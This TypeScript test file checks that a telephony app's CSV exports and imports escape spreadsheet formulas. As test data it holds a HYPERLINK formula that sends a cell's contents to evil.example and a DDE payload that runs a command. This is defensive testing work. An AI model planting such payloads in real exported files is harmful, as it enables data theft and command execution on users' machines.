import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { after, before, describe, test } from 'node:test';
import { INTERNAL_TOKEN, startTestApp, type Client, type TestApp } from './helpers/app.js';
import { backends } from './helpers/db.js';
import { scenario, type Scenario } from './helpers/scenario.js';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")';
const EVIL_CARRIER = "-2+3+cmd|' /C calc'!A0";

for (const kind of backends()) {
  describe(`CSV exports neutralise formulas on ${kind}`, () => {
    let t: TestApp;
    let sc: Scenario;
    let admin: Client;
    before(async () => {
      t = await startTestApp(kind);
      sc = await scenario(t.services, { links: [{}] });
      admin = await t.userClient('admin');
    });
    after(() => t.close());

    test('the call log export escapes a formula caller ID and keeps E.164 numbers as they are', async () => {
      const pbx = (method: string, path: string, body?: unknown) =>
        t.anon.request(method, path, body, { 'x-internal-api-token': INTERNAL_TOKEN });
      const did = encodeURIComponent(sc.did);
      for (const [uniqueid, caller] of [
        ['evil1', EVIL],
        ['fine1', '+14155550100'],
      ] as const) {
        const routed = await pbx(
          'GET',
          `/api/internal/route_info?uniqueid=${uniqueid}&did=${did}&caller_id=${encodeURIComponent(caller)}`,
        );
        assert.equal(routed.status, 200, JSON.stringify(routed.body));
        await pbx('POST', '/api/internal/log_call', { uniqueid, dial_status: 'NOANSWER' });
      }

      const res = await admin.get('/api/calls/export.csv');

      assert.equal(res.status, 200);
      const rows = parse(res.body as string, { columns: true }) as Record<string, string>[];
      const byId = new Map(rows.map((r) => [r.uniqueid, r]));
      assert.equal(byId.get('evil1')?.caller_id, `'${EVIL}`);
      assert.equal(byId.get('fine1')?.caller_id, '+14155550100');
      assert.equal(byId.get('fine1')?.did, sc.did);
      assert.match(byId.get('fine1')?.cost ?? '', /^-?\d+\.\d+$/);
    });

    test('the caller-ID export escapes formulas and re-imports exactly', async () => {
      const pool = await admin.post('/api/callerid/pools', { name: 'Negative', campaign: '-neg' });
      assert.equal(pool.status, 201, JSON.stringify(pool.body));
      const added = await admin.post('/api/callerid/numbers', {
        caller_id: '+13125550171',
        pool_id: pool.body.id,
        carrier: EVIL_CARRIER,
      });
      assert.equal(added.status, 201, JSON.stringify(added.body));
      await admin.post('/api/callerid/numbers', {
        caller_id: '+13125550172',
        pool_id: pool.body.id,
        carrier: "'=already quoted",
      });

      const exported = (await admin.get('/api/callerid/export.csv')).body as string;

      const rows = parse(exported, { columns: true }) as Record<string, string>[];
      const evil = rows.find((r) => r.caller_id === '+13125550171');
      assert.deepEqual([evil?.campaign, evil?.carrier], ["'-neg", `'${EVIL_CARRIER}`]);

      // Into an empty database with the same pool: the same numbers, the same export.
      const t2 = await startTestApp(kind);
      try {
        const admin2 = await t2.userClient('admin');
        await admin2.post('/api/callerid/pools', { name: 'Negative', campaign: '-neg' });
        const imported = await admin2.request('POST', '/api/callerid/import', exported, {
          'content-type': 'text/csv',
        });
        assert.deepEqual([imported.body.inserted, imported.body.rejected], [rows.length, []]);
        const numbers = await admin2.get('/api/callerid/numbers?campaign=-neg');
        assert.deepEqual(numbers.body.items.map((n: any) => n.carrier).sort(), [
          "'=already quoted",
          EVIL_CARRIER,
        ]);
        assert.equal((await admin2.get('/api/callerid/export.csv')).body, exported);
      } finally {
        await t2.close();
      }
    });
  });
}

describe('capconduit cid import --report', () => {
  const dir = mkdtempSync(join(tmpdir(), 'capconduit-csv-'));
  after(() => rmSync(dir, { recursive: true, force: true }));

  test('writes the rejected rows as CSV with formulas escaped', async () => {
    const input = join(dir, 'in.csv');
    const report = join(dir, 'rejected.csv');
    writeFileSync(input, `caller_id,carrier\n+13055550101,ok\n"${EVIL.replace(/"/g, '""')}",x\n`);
    const child = spawn(
      process.execPath,
      ['--import', 'tsx', 'src/main.ts', 'cid', 'import', input, '--report', report],
      { env: { ...process.env, DATA_DIR: join(dir, 'data'), LOG_LEVEL: 'warn' }, stdio: 'pipe' },
    );
    let out = '';
    child.stdout.on('data', (d) => (out += d));
    child.stderr.on('data', (d) => (out += d));
    const code = await new Promise((resolve) => child.on('exit', resolve));

    assert.equal(code, 0, out);
    const rows = parse(readFileSync(report, 'utf8'), { columns: true }) as Record<string, string>[];
    assert.deepEqual(
      rows.map((r) => [r.row, r.input]),
      [['2', `'${EVIL}`]],
    );
    assert.match(rows[0]?.reason ?? '', /^bad number/);
  });
});
